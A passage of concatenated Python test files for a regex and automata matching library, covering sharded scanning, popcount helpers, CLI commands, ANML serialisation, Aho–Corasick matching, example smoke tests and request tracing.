@settings(max_examples=80, deadline=None)
def test_arbitrary_cuts_equal_oneshot(data):
    patterns = data.draw(st.lists(ere_patterns(), min_size=1, max_size=3))
    text = data.draw(input_strings())
    payload = payload_of(text)
    cut_count = data.draw(st.integers(min_value=0, max_value=5))
    cuts = data.draw(
        st.lists(
            st.integers(min_value=0, max_value=len(payload)),
            min_size=cut_count,
            max_size=cut_count,
        )
    )

    mfsa = build(patterns)
    scanner = SfaScanner(mfsa)
    assert fold_cuts(scanner, payload, cuts) == oracle_non_eps(scanner, mfsa, text)


@given(st.data())
@settings(max_examples=50, deadline=None)
def test_composed_mapping_applies_like_the_fold(data):
    """compose-then-apply equals apply-per-chunk: the dispatcher may
    reduce mappings pairwise (tree reduce) or left-fold them."""
    patterns = data.draw(st.lists(ere_patterns(), min_size=1, max_size=3))
    text = payload_of(data.draw(input_strings()))
    cut = data.draw(st.integers(min_value=0, max_value=len(text)))

    scanner = SfaScanner(build(patterns))
    a = scanner.scan_chunk(text[:cut]).mapping
    b = scanner.scan_chunk(text[cut:]).mapping

    via_fold, fold_exit = fold_mappings(
        [a, b], [a.length, b.length], scanner
    )
    via_compose, compose_exit = scanner.apply(scanner.compose(a, b))
    assert via_compose == via_fold
    assert compose_exit == fold_exit


@given(st.data())
@settings(max_examples=40, deadline=None)
def test_pop_on_final_cuts_equal_oneshot(data):
    patterns = data.draw(st.lists(ere_patterns(), min_size=1, max_size=3))
    text = data.draw(input_strings())
    payload = payload_of(text)
    cut = data.draw(st.integers(min_value=0, max_value=len(payload)))

    mfsa = build(patterns)
    scanner = SfaScanner(mfsa, pop_on_final=True)
    eps = set(scanner.tables.empty_matching_rules)
    expected = {
        (rule, end)
        for rule, end in IMfantEngine(mfsa, pop_on_final=True).run(text).matches
        if rule not in eps
    }
    assert fold_cuts(scanner, payload, [cut]) == expected


# ---------------------------------------------------------------------------
# Curated surface: every builtin ruleset, including unbounded ones
# ---------------------------------------------------------------------------


@pytest.mark.parametrize("name", [
    "dotstar_rules",
    "http_signatures",
    "log_patterns",
    "protein_motifs",
    "range_rules",
    "tokens_exact",
])
@pytest.mark.parametrize("cuts", [1, 3, 7])
def test_builtin_ruleset_cuts_equal_oneshot(name, cuts):
    if name not in list_builtin():
        pytest.skip(f"builtin ruleset {name!r} not shipped")
    patterns = list(load_builtin(name).patterns)
    compiled = compile_ruleset(patterns, CompileOptions(emit_anml=False))
    payload = _demo_stream(patterns, 2048)
    # deliberately unequal pieces, including a zero-length one
    bounds = sorted((len(payload) * k * k) // (cuts + 1) ** 2 for k in range(1, cuts + 1))

    for mfsa in compiled.mfsas:
        scanner = SfaScanner(mfsa)
        got = fold_cuts(scanner, payload, bounds)
        assert got == oracle_non_eps(scanner, mfsa, payload.decode("latin-1")), (
            f"{name}: fold over {cuts} cut(s) diverged from single shot"
        )


def test_eps_rules_are_the_all_offsets_fact():
    """ε-accepting rules never appear in mapping matches — they are the
    compact all-offsets fact the caller completes (serve: eps_rules)."""
    mfsa = build(["a*", "ab"])
    scanner = SfaScanner(mfsa)
    payload = b"xabx"
    got = fold_cuts(scanner, payload, [2])
    assert got == {(1, 3)}
    oracle = IMfantEngine(mfsa).run("xabx").matches
    eps_expansion = {(0, e) for e in range(len(payload) + 1)}
    assert got | eps_expansion == oracle


def test_run_compression_round_trips():
    scanner = SfaScanner(build(["a"]))
    mapping = scanner.scan_chunk(b"aaabaa").mapping
    ((runs),) = [runs for runs in [mapping.const_matches[0]]]
    assert list(expand_runs(runs)) == [1, 2, 3, 5, 6]
    assert runs == ((1, 3), (5, 6))  # canonical inclusive ranges


def test_detached_pickle_folds_after_attach():
    mfsa = build(["ab+"])
    scanner = SfaScanner(mfsa)
    detached = pickle.loads(pickle.dumps(scanner.scan_chunk(b"abb").mapping))
    assert detached.scanner is None
    mapping = scanner.attach(detached)
    matches, _ = fold_mappings([mapping], [3], scanner)
    assert matches == {(0, 2), (0, 3)}
