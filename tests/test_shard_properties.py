"""Property tests for sharded scanning: any split equals a single pass.

The shard planner (:func:`repro.serve.shards.plan_shards`) picks
near-equal boundaries, but correctness must not depend on *where* the
cuts fall — a match of width ≤ overlap that straddles any boundary lies
entirely inside the next shard's lead.  So beyond the planner's own
splits, these tests drive the stitch machinery with **arbitrary**
hypothesis-chosen cut points and assert the stitched union equals the
single-pass oracle, including boundary-spanning and empty-width matches.

Unbounded-width rulesets (``a*`` reaching any length) have no sound
finite overlap; for those the pool's sequential fallback is asserted
instead.
"""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.engine.chunkscan import ruleset_max_width
from repro.engine.imfant import IMfantEngine
from repro.mfsa.merge import merge_fsas
from repro.serve.artifacts import Artifact, ruleset_key
from repro.serve.shards import ShardJob, ShardPool, plan_shards, rebase_matches

from conftest import compile_ruleset_fsas, ere_patterns, input_strings


def _single_pass(mfsa, text: str) -> set[tuple[int, int]]:
    return IMfantEngine(mfsa).run(text, collect_stats=False).matches


def _complete_empty_rules(mfsa, matches: set, payload_len: int) -> set:
    """ε-accepting rules match at every offset; shards only see their own."""
    for rule, q0 in mfsa.initials.items():
        if q0 in mfsa.finals[rule]:
            matches |= {(rule, end) for end in range(payload_len + 1)}
    return matches


def _jobs_from_cuts(payload_len: int, cuts: list[int], overlap: int) -> list[ShardJob]:
    """ShardJobs for arbitrary (sorted, in-range) cut positions."""
    bounds = [0] + sorted({c for c in cuts if 0 < c < payload_len}) + [payload_len]
    return [
        ShardJob(start=start, lead=min(overlap, start), stop=stop)
        for start, stop in zip(bounds, bounds[1:])
    ]


def _scan_jobs(mfsa, payload: str, jobs: list[ShardJob]) -> set[tuple[int, int]]:
    """The pool's per-job scan + stitch, minus the pool: fork, scan, rebase."""
    template = IMfantEngine(mfsa)
    stitched: set = set()
    for job in jobs:
        segment = payload[job.segment_slice]
        found = template.fork().run(segment, collect_stats=False).matches
        stitched |= rebase_matches(list(found), job)
    return _complete_empty_rules(mfsa, stitched, len(payload))


# ---------------------------------------------------------------------------
# Planner invariants
# ---------------------------------------------------------------------------


@given(
    payload_len=st.integers(min_value=0, max_value=10_000),
    num_shards=st.integers(min_value=1, max_value=64),
    overlap=st.integers(min_value=0, max_value=200),
)
@settings(max_examples=200, deadline=None)
def test_plan_shards_invariants(payload_len, num_shards, overlap):
    jobs = plan_shards(payload_len, num_shards, overlap)
    assert 1 <= len(jobs) <= num_shards
    # contiguous exact cover of [0, payload_len)
    assert jobs[0].start == 0
    assert jobs[-1].stop == payload_len
    for left, right in zip(jobs, jobs[1:]):
        assert left.stop == right.start
    for job in jobs:
        assert job.lead == min(overlap, job.start)
        assert job.segment_slice.start == job.start - job.lead >= 0
        if payload_len > 0 and len(jobs) > 1:
            # every shard advances past its own lead
            assert job.stop - job.start >= 1


# ---------------------------------------------------------------------------
# Arbitrary cut points == single pass
# ---------------------------------------------------------------------------


@given(st.data())
@settings(max_examples=60, deadline=None)
def test_arbitrary_cuts_equal_single_pass(data):
    patterns = data.draw(st.lists(ere_patterns(), min_size=1, max_size=4))
    text = data.draw(input_strings(max_size=48))
    mfsa = merge_fsas(compile_ruleset_fsas(patterns))
    oracle = _single_pass(mfsa, text)

    overlap = ruleset_max_width(patterns)
    if overlap is None:
        # unbounded width: no finite overlap is sound — the only correct
        # "sharding" is a single job, which is trivially the oracle.
        jobs = [ShardJob(0, 0, len(text))]
        assert _scan_jobs(mfsa, text, jobs) == oracle
        return

    cuts = data.draw(
        st.lists(st.integers(min_value=1, max_value=max(1, len(text))), max_size=6)
    )
    jobs = _jobs_from_cuts(len(text), cuts, overlap)
    assert _scan_jobs(mfsa, text, jobs) == oracle, (
        f"cuts={sorted(set(cuts))} overlap={overlap} patterns={patterns!r}"
    )


@given(st.data())
@settings(max_examples=60, deadline=None)
def test_planner_cuts_equal_single_pass(data):
    """The planner's own splits, any shard count, any payload length."""
    patterns = data.draw(st.lists(ere_patterns(), min_size=1, max_size=4))
    text = data.draw(input_strings(max_size=48))
    num_shards = data.draw(st.integers(min_value=1, max_value=8))
    mfsa = merge_fsas(compile_ruleset_fsas(patterns))
    oracle = _single_pass(mfsa, text)

    overlap = ruleset_max_width(patterns)
    if overlap is None:
        jobs = [ShardJob(0, 0, len(text))]
    else:
        jobs = plan_shards(len(text), num_shards, overlap)
    assert _scan_jobs(mfsa, text, jobs) == oracle


# ---------------------------------------------------------------------------
# The real ShardPool, end to end (fewer examples: executors are heavy)
# ---------------------------------------------------------------------------


@given(st.data())
@settings(max_examples=15, deadline=None)
def test_shard_pool_equals_single_pass(data):
    patterns = data.draw(st.lists(ere_patterns(), min_size=1, max_size=3))
    text = data.draw(input_strings(max_size=40))
    num_shards = data.draw(st.integers(min_value=1, max_value=4))
    backend = data.draw(st.sampled_from(["python", "lazy"]))

    fsas = compile_ruleset_fsas(patterns)
    mfsa = merge_fsas(fsas)
    oracle = _single_pass(mfsa, text)

    artifact = Artifact(
        key=ruleset_key(patterns),
        patterns=list(patterns),
        mfsas=[mfsa],
        loaded_from_cache=False,
    )
    with ShardPool(artifact, num_shards=num_shards, backend=backend) as pool:
        result = pool.scan(text.encode("latin-1"))
    # ε-accepting rules travel compactly (all_offsets_rules), never as
    # enumerated tuples; full_matches() re-expands to oracle semantics.
    assert result.full_matches() == oracle
    everywhere = set(result.all_offsets_rules)
    assert not any(rule in everywhere for rule, _ in result.matches)
    assert not result.partial
