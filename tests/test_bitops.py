"""Tests for the uint64 popcount helpers (native + unpackbits fallback).

The public ``popcount_rows`` / ``popcount_total`` bind to whichever
implementation the installed NumPy supports; both implementations are
additionally tested directly against a pure-Python reference so the
fallback stays correct even when the native path is the one selected.
"""

import numpy as np
import pytest

from repro.engine import bitops
from repro.engine.bitops import (
    HAS_NATIVE_POPCOUNT,
    _popcount_rows_unpackbits,
    _popcount_total_unpackbits,
    popcount_rows,
    popcount_total,
)


def _reference_rows(sv: np.ndarray) -> list[int]:
    return [sum(int(word).bit_count() for word in row) for row in sv]


def _random_matrix(rows: int, limbs: int, seed: int) -> np.ndarray:
    rng = np.random.default_rng(seed)
    return rng.integers(0, 2 ** 64, size=(rows, limbs), dtype=np.uint64)


class TestChosenPath:
    """The path selected at import time (whatever NumPy is installed)."""

    def test_selection_matches_numpy_capability(self):
        assert HAS_NATIVE_POPCOUNT == hasattr(np, "bitwise_count")
        if HAS_NATIVE_POPCOUNT:
            assert popcount_rows is bitops._popcount_rows_native
            assert popcount_total is bitops._popcount_total_native
        else:
            assert popcount_rows is _popcount_rows_unpackbits
            assert popcount_total is _popcount_total_unpackbits

    @pytest.mark.parametrize("rows,limbs", [(1, 1), (3, 2), (17, 5), (64, 1)])
    def test_rows_against_reference(self, rows, limbs):
        sv = _random_matrix(rows, limbs, seed=rows * 31 + limbs)
        assert popcount_rows(sv).tolist() == _reference_rows(sv)

    def test_total_against_reference(self):
        sv = _random_matrix(9, 3, seed=7)
        assert popcount_total(sv) == sum(_reference_rows(sv))

    def test_total_on_1d(self):
        sv = np.array([0, 1, (1 << 64) - 1, 0x8000000000000001], dtype=np.uint64)
        assert popcount_total(sv) == 0 + 1 + 64 + 2

    def test_extremes(self):
        sv = np.zeros((4, 2), dtype=np.uint64)
        assert popcount_rows(sv).tolist() == [0, 0, 0, 0]
        sv[:] = np.uint64(2 ** 64 - 1)
        assert popcount_rows(sv).tolist() == [128] * 4
        assert popcount_total(sv) == 512


class TestFallbackPath:
    """The unpackbits implementation, exercised regardless of NumPy."""

    @pytest.mark.parametrize("rows,limbs", [(1, 1), (5, 3), (32, 2)])
    def test_rows_against_reference(self, rows, limbs):
        sv = _random_matrix(rows, limbs, seed=rows * 17 + limbs)
        assert _popcount_rows_unpackbits(sv).tolist() == _reference_rows(sv)

    def test_total_against_reference(self):
        sv = _random_matrix(6, 4, seed=3)
        assert _popcount_total_unpackbits(sv) == sum(_reference_rows(sv))

    def test_non_contiguous_input(self):
        wide = _random_matrix(8, 6, seed=11)
        view = wide[:, ::2]  # non-contiguous columns
        assert _popcount_rows_unpackbits(view).tolist() == _reference_rows(view)

    @pytest.mark.skipif(not HAS_NATIVE_POPCOUNT, reason="needs numpy >= 2.0")
    def test_agrees_with_native(self):
        sv = _random_matrix(13, 3, seed=23)
        assert _popcount_rows_unpackbits(sv).tolist() == bitops._popcount_rows_native(sv).tolist()
        assert _popcount_total_unpackbits(sv) == bitops._popcount_total_native(sv)


class TestEngineUsesChosenPath:
    def test_imfant_numpy_stats_use_popcount(self, monkeypatch):
        """Swap in the fallback and check the numpy backend still agrees
        with the python backend — proving the engines go through bitops."""
        from repro.automata.optimize import compile_re_to_fsa
        from repro.mfsa.merge import merge_fsas
        import repro.engine.imfant as imfant_mod

        monkeypatch.setattr(imfant_mod, "popcount_rows", _popcount_rows_unpackbits)
        mfsa = merge_fsas([(0, compile_re_to_fsa("ab+c")), (1, compile_re_to_fsa("b[cd]"))])
        from repro.engine.imfant import IMfantEngine

        text = "abbcbdab"
        py = IMfantEngine(mfsa, backend="python").run(text).stats
        np_ = IMfantEngine(mfsa, backend="numpy").run(text).stats
        assert py.active_pair_total == np_.active_pair_total
        assert py.max_state_activation == np_.max_state_activation
