"""Tests for the command-line entry points."""

import pytest

from repro.cli import compile_main, match_main, report_main, viz_main


@pytest.fixture
def ruleset_file(tmp_path):
    path = tmp_path / "rules.txt"
    path.write_text("# comment\nabc\nabd\na[bc]e\n\n")
    return path


@pytest.fixture
def stream_file(tmp_path):
    path = tmp_path / "stream.bin"
    path.write_bytes(b"zzabczzabdzz")
    return path


class TestCompileMain:
    def test_writes_anml(self, ruleset_file, tmp_path, capsys):
        out_dir = tmp_path / "out"
        assert compile_main([str(ruleset_file), "-o", str(out_dir)]) == 0
        files = list(out_dir.glob("*.anml"))
        assert len(files) == 1
        captured = capsys.readouterr().out
        assert "compiled 3 REs" in captured
        assert "compression" in captured

    def test_merging_factor(self, ruleset_file, tmp_path):
        out_dir = tmp_path / "out"
        compile_main([str(ruleset_file), "-m", "1", "-o", str(out_dir)])
        assert len(list(out_dir.glob("*.anml"))) == 3

    def test_empty_ruleset_errors(self, tmp_path, capsys):
        empty = tmp_path / "empty.txt"
        empty.write_text("# nothing\n")
        assert compile_main([str(empty)]) == 2
        assert "error: usage:" in capsys.readouterr().err


class TestMatchMain:
    def test_compile_on_the_fly(self, ruleset_file, stream_file, capsys):
        assert match_main([str(stream_file), "--ruleset", str(ruleset_file)]) == 0
        out = capsys.readouterr().out
        assert "matches: " in out
        assert "rule 0 matched" in out

    def test_from_anml_dir(self, ruleset_file, stream_file, tmp_path, capsys):
        out_dir = tmp_path / "out"
        compile_main([str(ruleset_file), "-o", str(out_dir)])
        capsys.readouterr()
        assert match_main([str(stream_file), "--mfsa-dir", str(out_dir)]) == 0
        assert "matches: " in capsys.readouterr().out

    def test_anml_and_direct_agree(self, ruleset_file, stream_file, tmp_path, capsys):
        out_dir = tmp_path / "out"
        compile_main([str(ruleset_file), "-o", str(out_dir)])
        capsys.readouterr()
        match_main([str(stream_file), "--mfsa-dir", str(out_dir), "--show-matches", "100"])
        via_anml = capsys.readouterr().out
        match_main([str(stream_file), "--ruleset", str(ruleset_file), "--show-matches", "100"])
        direct = capsys.readouterr().out
        assert [l for l in via_anml.splitlines() if "rule" in l] == \
               [l for l in direct.splitlines() if "rule" in l]

    def test_missing_anml_dir(self, stream_file, tmp_path, capsys):
        assert match_main([str(stream_file), "--mfsa-dir", str(tmp_path / "nope")]) == 2
        assert "no .anml files" in capsys.readouterr().err

    def test_numpy_backend_and_threads(self, ruleset_file, stream_file, capsys):
        assert match_main([
            str(stream_file), "--ruleset", str(ruleset_file),
            "-m", "1", "-t", "2", "--backend", "numpy",
        ]) == 0
        assert "3 MFSA(s)" in capsys.readouterr().out


class TestVizMain:
    def test_writes_dot_files(self, ruleset_file, tmp_path, capsys):
        out_dir = tmp_path / "dots"
        assert viz_main([str(ruleset_file), "-o", str(out_dir)]) == 0
        files = list(out_dir.glob("*.dot"))
        assert len(files) == 1
        assert files[0].read_text().startswith("digraph")
        assert "DOT file" in capsys.readouterr().out

    def test_per_rule_flag(self, ruleset_file, tmp_path):
        out_dir = tmp_path / "dots"
        viz_main([str(ruleset_file), "-o", str(out_dir), "--per-rule"])
        assert len(list(out_dir.glob("rule*.dot"))) == 3


class TestReportMain:
    @pytest.mark.parametrize("what,needle", [
        ("fig1", "INDEL"),
        ("table1", "Table I"),
        ("fig7", "compression"),
        ("table2", "active"),
    ])
    def test_sections(self, what, needle, capsys):
        assert report_main([what, "--scale", "30", "--stream-size", "256"]) == 0
        assert needle in capsys.readouterr().out

    def test_fig10_summary_lines(self, capsys):
        report_main(["fig10", "--scale", "30", "--stream-size", "256"])
        out = capsys.readouterr().out
        assert "speedup" in out


class TestReportDatasetFilter:
    def test_subset(self, capsys):
        report_main(["table1", "--scale", "30", "--stream-size", "256",
                     "--datasets", "bro,tcp"])
        out = capsys.readouterr().out
        assert "BRO" in out and "TCP" in out
        assert "DS9" not in out

    def test_unknown_dataset(self, capsys):
        assert report_main(["table1", "--datasets", "NOPE"]) == 2
        assert "unknown dataset" in capsys.readouterr().err


class TestSingleMatchFlag:
    def test_single_match(self, ruleset_file, tmp_path, capsys):
        stream = tmp_path / "s.bin"
        stream.write_bytes(b"abcabcabc")
        match_main([str(stream), "--ruleset", str(ruleset_file),
                    "--single-match", "--show-matches", "50"])
        out = capsys.readouterr().out
        # rule 0 ("abc") matches three times normally; once here
        assert out.count("rule 0 matched") == 1
