"""Public-API hygiene: exports resolve, docs exist, version is sane."""

import importlib
import pkgutil

import pytest

import repro

PUBLIC_PACKAGES = [
    "repro",
    "repro.frontend",
    "repro.automata",
    "repro.mfsa",
    "repro.anml",
    "repro.engine",
    "repro.counting",
    "repro.dfa",
    "repro.decompose",
    "repro.stringmatch",
    "repro.datasets",
    "repro.similarity",
    "repro.pipeline",
    "repro.reporting",
    "repro.viz",
]


class TestTopLevel:
    def test_version(self):
        major, minor, patch = repro.__version__.split(".")
        assert all(part.isdigit() for part in (major, minor, patch))

    def test_all_exports_resolve(self):
        for name in repro.__all__:
            assert hasattr(repro, name), name

    def test_no_private_exports(self):
        assert not any(name.startswith("_") for name in repro.__all__ if name != "__version__")

    def test_key_types_importable_from_top_level(self):
        from repro import (  # noqa: F401
            AhoCorasick,
            CompileOptions,
            IMfantEngine,
            Mfsa,
            PrefilterEngine,
            SpanFinder,
            StreamingMatcher,
            compile_ruleset,
        )


class TestModuleHygiene:
    @pytest.mark.parametrize("package", PUBLIC_PACKAGES)
    def test_package_has_docstring(self, package):
        module = importlib.import_module(package)
        assert module.__doc__ and len(module.__doc__.strip()) > 20, package

    def test_every_submodule_has_docstring(self):
        undocumented = []
        for info in pkgutil.walk_packages(repro.__path__, prefix="repro."):
            if "builtin" in info.name:
                continue  # data package
            module = importlib.import_module(info.name)
            if not (module.__doc__ and module.__doc__.strip()):
                undocumented.append(info.name)
        assert not undocumented, undocumented

    def test_subpackage_alls_resolve(self):
        for package in PUBLIC_PACKAGES:
            module = importlib.import_module(package)
            for name in getattr(module, "__all__", ()):
                assert hasattr(module, name), f"{package}.{name}"

    def test_py_typed_marker_shipped(self):
        from pathlib import Path

        assert (Path(repro.__file__).parent / "py.typed").exists()
