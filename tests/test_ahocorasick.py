"""Tests for the Aho–Corasick string-matching substrate."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.stringmatch import AhoCorasick

WORDS = st.text(alphabet="abc", min_size=1, max_size=6)


class TestConstruction:
    def test_empty_pattern_rejected(self):
        with pytest.raises(ValueError):
            AhoCorasick(["a", ""])

    def test_accepts_bytes_and_str(self):
        ac = AhoCorasick([b"ab", "cd"])
        assert ac.find_all(b"abcd") == {(0, 2), (1, 4)}

    def test_trie_shares_prefixes(self):
        ac = AhoCorasick(["abc", "abd"])
        # root + a + b + c + d
        assert ac.num_nodes == 5


class TestMatching:
    def test_single_pattern(self):
        ac = AhoCorasick(["abc"])
        assert ac.find_all("zabcabc") == {(0, 4), (0, 7)}

    def test_overlapping_patterns(self):
        ac = AhoCorasick(["aa"])
        assert ac.find_all("aaa") == {(0, 2), (0, 3)}

    def test_substring_patterns_both_report(self):
        ac = AhoCorasick(["he", "she", "hers"])
        got = ac.find_all("ushers")
        assert got == {(1, 4), (0, 4), (2, 6)}

    def test_failure_links_across_patterns(self):
        ac = AhoCorasick(["abcd", "bc"])
        assert (1, 3) in ac.find_all("abce")

    def test_duplicate_patterns_report_separately(self):
        ac = AhoCorasick(["ab", "ab"])
        assert ac.find_all("ab") == {(0, 2), (1, 2)}

    def test_no_match(self):
        assert AhoCorasick(["xyz"]).find_all("abcabc") == set()

    def test_contains_any_early_exit(self):
        ac = AhoCorasick(["needle"])
        assert ac.contains_any("hay needle hay")
        assert not ac.contains_any("hay hay")

    def test_match_positions_sorted(self):
        ac = AhoCorasick(["ab"])
        assert ac.match_positions("ababab") == {0: [2, 4, 6]}

    def test_binary_patterns(self):
        ac = AhoCorasick([bytes([0, 255, 7])])
        assert ac.find_all(bytes([1, 0, 255, 7, 2])) == {(0, 4)}


@given(st.lists(WORDS, min_size=1, max_size=6), st.text(alphabet="abc", max_size=40))
@settings(max_examples=200, deadline=None)
def test_matches_re_oracle(patterns, text):
    """Every (pattern, end) pair agrees with a regex-scan oracle."""
    ac = AhoCorasick(patterns)
    expected = set()
    for pattern_id, pattern in enumerate(patterns):
        for match in re.finditer(f"(?=({re.escape(pattern)}))", text):
            expected.add((pattern_id, match.start() + len(pattern)))
    assert ac.find_all(text) == expected
