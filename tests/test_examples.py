"""Smoke tests: every example script runs green and prints its story.

Examples are documentation that executes; these tests keep them from
rotting.  Each example's ``main()`` is imported and run with captured
stdout, asserting the banner lines that prove the interesting part
happened.
"""

import importlib.util
import sys
from pathlib import Path

import pytest

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"


def run_example(name: str, capsys) -> str:
    spec = importlib.util.spec_from_file_location(f"example_{name}", EXAMPLES / f"{name}.py")
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module
    try:
        spec.loader.exec_module(module)
        module.main()
    finally:
        sys.modules.pop(spec.name, None)
    return capsys.readouterr().out


class TestExamples:
    def test_quickstart(self, capsys):
        out = run_example("quickstart", capsys)
        assert "compression" in out
        assert "matches" in out
        assert "automata-network" in out  # the ANML excerpt

    def test_deep_packet_inspection(self, capsys):
        out = run_example("deep_packet_inspection", capsys)
        assert "merging factor sweep" in out
        assert "invariant across M" in out

    def test_genome_motifs(self, capsys):
        out = run_example("genome_motifs", capsys)
        assert "states compressed" in out
        assert "ANML round-trip verified" in out

    def test_log_scanner(self, capsys):
        out = run_example("log_scanner", capsys)
        assert "exact-CC merging" in out
        assert "per-rule hit counts" in out

    def test_alert_triage(self, capsys):
        out = run_example("alert_triage", capsys)
        assert "literal prefilter" in out
        assert "matched spans" in out
        assert "chunked and single-shot matching agree" in out

    def test_ruleset_formats(self, capsys):
        out = run_example("ruleset_formats", capsys)
        assert "merged MFSA" in out
        assert "counting MFSA" in out

    def test_ids_rules(self, capsys):
        out = run_example("ids_rules", capsys)
        assert "alerts:" in out
        assert "SQL injection probe" in out
        assert "DNS tunnel marker" in out

    def test_every_example_has_a_test(self):
        """New examples must be added to this module."""
        tested = {
            "quickstart", "deep_packet_inspection", "genome_motifs",
            "log_scanner", "alert_triage", "ruleset_formats", "ids_rules",
        }
        present = {path.stem for path in EXAMPLES.glob("*.py")}
        assert present == tested, present ^ tested
