"""Tests for the extended-ANML back-end (homogenise / write / read)."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.anml.homogenize import homogenize
from repro.anml.reader import AnmlFormatError, read_anml
from repro.anml.writer import write_anml
from repro.automata.optimize import compile_re_to_fsa
from repro.mfsa.activation import reference_match
from repro.mfsa.merge import merge_fsas

from conftest import compile_ruleset_fsas, ere_patterns, input_strings, mfsa_equal


def build(patterns):
    return merge_fsas(compile_ruleset_fsas(patterns))


class TestHomogenize:
    def test_one_ste_per_state_label_pair(self):
        mfsa = build(["ab", "ac"])
        network = homogenize(mfsa)
        keys = {(s.state, s.symbol_set.mask) for s in network.stes}
        assert len(keys) == len(network.stes)  # no duplicates

    def test_start_marks_on_initial_successors(self):
        mfsa = build(["ab"])
        network = homogenize(mfsa)
        start = [s for s in network.stes if s.start_for]
        assert len(start) == 1
        assert start[0].start_for == frozenset({0})

    def test_report_marks_on_finals(self):
        mfsa = build(["ab", "cb"])
        network = homogenize(mfsa)
        reporters = [s for s in network.stes if s.report_for]
        assert reporters
        assert all(s.state in mfsa.finals[r] for s in reporters for r in s.report_for)

    def test_start_arcs_for_splitless_sources(self):
        """Initial states with no incoming arcs yield StartArc records."""
        network = homogenize(build(["ab"]))
        assert network.start_arcs
        assert network.start_arcs[0].src_state == 0

    def test_rules_table(self):
        mfsa = build(["ab", "cd"])
        network = homogenize(mfsa)
        assert set(network.rules) == {0, 1}
        initial, finals, pattern = network.rules[0]
        assert initial == mfsa.initials[0]
        assert finals == frozenset(mfsa.finals[0])
        assert pattern == "ab"


class TestWriter:
    def test_well_formed_xml(self):
        import xml.etree.ElementTree as ET

        text = write_anml(build(["a(b|c)d", "ab"]))
        root = ET.fromstring(text)
        assert root.tag == "automata-network"
        assert root.find("rules") is not None

    def test_belongs_to_attribute_present(self):
        text = write_anml(build(["abc", "abd"]))
        assert "belongs-to=" in text

    def test_network_id(self):
        text = write_anml(build(["a"]), network_id="testnet")
        assert 'id="testnet"' in text


class TestReader:
    def test_roundtrip_simple(self):
        mfsa = build(["abc", "abd", "xbc"])
        assert mfsa_equal(mfsa, read_anml(write_anml(mfsa)))

    def test_roundtrip_charclasses(self):
        mfsa = build(["[a-c]x[0-9]", "k[bc]d", "x\\.y"])
        assert mfsa_equal(mfsa, read_anml(write_anml(mfsa)))

    def test_roundtrip_loops(self):
        mfsa = build(["ab*c", "(ab)+"])
        assert mfsa_equal(mfsa, read_anml(write_anml(mfsa)))

    def test_malformed_xml(self):
        with pytest.raises(AnmlFormatError):
            read_anml("<not-closed")

    def test_wrong_root(self):
        with pytest.raises(AnmlFormatError):
            read_anml("<wrong/>")

    def test_missing_rules(self):
        with pytest.raises(AnmlFormatError):
            read_anml('<automata-network original-states="1"/>')

    def test_missing_attribute(self):
        with pytest.raises(AnmlFormatError):
            read_anml(
                '<automata-network original-states="1">'
                "<rules><rule id=\"0\"/></rules></automata-network>"
            )

    def test_connection_to_unknown_element(self):
        bad = (
            '<automata-network original-states="2">'
            '<rules><rule id="0" initial-state="0" final-states="1"/></rules>'
            '<state-transition-element id="ste0" symbol-set="a" original-state="1">'
            '<activate-on-match element="ste9" belongs-to="0"/>'
            "</state-transition-element></automata-network>"
        )
        with pytest.raises(AnmlFormatError):
            read_anml(bad)


@given(st.lists(ere_patterns(), min_size=1, max_size=4), input_strings())
@settings(max_examples=60, deadline=None)
def test_roundtrip_property(patterns, text):
    mfsa = build(patterns)
    recovered = read_anml(write_anml(mfsa))
    assert mfsa_equal(mfsa, recovered)
    assert reference_match(mfsa, text) == reference_match(recovered, text)
