"""End-to-end request tracing through the serve stack (socket transport).

One traced request against a running server must come back as ONE
stitched span tree — ``client.match`` → ``serve.request`` →
(``serve.queue_wait`` | ``serve.shard_scan`` → ``serve.worker_scan``) —
under a single trace id, in thread mode and, crossing a real process
boundary, in process mode.

The server owns the tracer here (``trace_requests=True`` with no
pre-enabled switchboard): it enables tracing on start, pops each
request's spans when shipping them, and disables on stop — so the
client's adoption is the only copy left and the tree has no duplicates.
"""

from __future__ import annotations

import time

import pytest

import repro.obs as obs
from repro.obs.spans import Span, iter_tree
from repro.pipeline.compiler import CompileOptions
from repro.serve import ArtifactStore, MatchClient, ServeConfig, ServerThread

pytestmark = pytest.mark.serve

PATTERNS = ["needle", "boundary", "ha[py]{2}stack", "x[0-9]{1,3}y"]
PAYLOAD = (b"xy" * 300 + b"needle" + b"z" * 200 + b"happystack"
           + b"no" * 150 + b"x42y" + b"boundary")


@pytest.fixture(scope="module")
def artifact(tmp_path_factory):
    store = ArtifactStore(tmp_path_factory.mktemp("artifacts"))
    return store.get_or_compile(PATTERNS, CompileOptions(emit_anml=False))


def _settled(tracer, timeout: float = 2.0):
    """Wait for in-flight server spans (the dispatcher's ``serve.batch``
    closes a beat after the reply lands) before validating invariants."""
    deadline = time.monotonic() + timeout
    while tracer.open_spans() and time.monotonic() < deadline:
        time.sleep(0.01)
    tracer.validate()


def _trace_tree(tracer, trace_id):
    """The finished spans of one trace, as {span_id: span} + roots."""
    spans = [s for s in tracer.spans() if s.trace_id == trace_id]
    by_id = {s.span_id: s for s in spans}
    roots = [s for s in spans if s.parent_id not in by_id]
    return spans, roots


@pytest.mark.parametrize("mode", ["thread", "process"])
def test_traced_request_yields_one_stitched_tree(artifact, mode):
    config = ServeConfig(shards=2, mode=mode, trace_requests=True)
    with ServerThread(artifact, config) as address:
        tracer = obs.get_tracer()
        assert tracer is not None, "trace_requests must enable a tracer"
        with MatchClient.connect(address) as client:
            result = client.match(PAYLOAD, trace=True)
        assert result.ok
        assert result.trace_id
        assert result.spans, "server shipped no span rows"

        _settled(tracer)  # parentage + containment invariants hold
        spans, roots = _trace_tree(tracer, result.trace_id)
        names = {s.name for s in spans}
        assert {"client.match", "serve.request", "serve.queue_wait",
                "serve.shard_scan", "serve.worker_scan"} <= names

        # exactly ONE tree: the client span is the only root, and every
        # other span reaches it through parent links
        assert [r.name for r in roots] == ["client.match"]
        assert all(s.trace_id == result.trace_id for s in spans)

        # dispatcher-side spans nest under the request span
        by_id = {s.span_id: s for s in spans}
        request_span = next(s for s in spans if s.name == "serve.request")
        assert by_id[request_span.parent_id].name == "client.match"
        workers = [s for s in spans if s.name == "serve.worker_scan"]
